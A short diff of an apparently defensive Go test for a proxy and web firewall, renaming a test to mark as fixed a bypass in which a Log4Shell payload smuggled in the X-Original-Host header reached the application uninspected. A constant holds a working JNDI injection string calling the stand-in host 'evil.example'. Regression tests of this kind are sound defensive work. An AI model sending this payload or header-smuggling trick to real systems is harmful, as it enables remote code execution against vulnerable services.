@@ -106,7 +106,7 @@ const log4shell = "${jndi:ldap://evil.example/a}"
 // Log4Shell payload (CRS 944150, blocked in any other header) in
 // X-Original-Host: the firewall never reads it and the proxy forwards it
 // to the application unchanged.
-func TestFAILS_ProxyIgnoredIntegrationHeaderSmuggledToApp(t *testing.T) {
+func TestFixed_ProxyIgnoredIntegrationHeaderSmuggledToApp(t *testing.T) {
 	base, app := proxyStack(t)
 	// Control: the same payload in an ordinary header is denied.
 	if code := send(t, base, "GET", "/", http.Header{"X-Api-Version": {log4shell}}, nil); code != 403 {
